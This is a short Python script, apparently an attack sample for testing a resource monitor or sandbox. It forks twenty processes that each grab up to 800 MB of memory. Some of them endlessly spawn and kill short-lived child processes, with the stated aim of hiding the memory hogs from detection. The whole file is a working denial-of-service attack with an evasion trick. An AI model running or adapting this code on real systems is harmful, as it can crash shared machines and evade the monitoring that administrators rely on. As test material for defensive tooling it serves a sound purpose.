# Fills the memory from twenty processes, while others start and end all the time to hide them.
# %% attack
import os
import time

for number in range(20):
    if os.fork() == 0:
        if number >= 16:
            while True:
                if os.fork() == 0:
                    os._exit(0)
                os.wait()
        hoard = []
        for _ in range(8):
            hoard.append(bytearray(b"x") * 100_000_000)
            time.sleep(0.1)
        time.sleep(60)
time.sleep(60)
